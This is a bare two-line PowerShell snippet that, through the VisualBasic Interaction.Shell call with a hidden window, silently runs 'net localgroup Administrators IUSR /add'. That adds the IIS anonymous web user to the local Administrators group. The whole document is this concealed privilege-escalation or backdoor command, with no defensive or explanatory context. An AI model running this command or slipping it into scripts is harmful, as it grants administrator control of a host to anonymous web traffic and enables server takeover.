Add-Type -AssemblyName Microsoft.VisualBasic
[Microsoft.VisualBasic.Interaction]::Shell('net localgroup Administrators IUSR /add', 0)
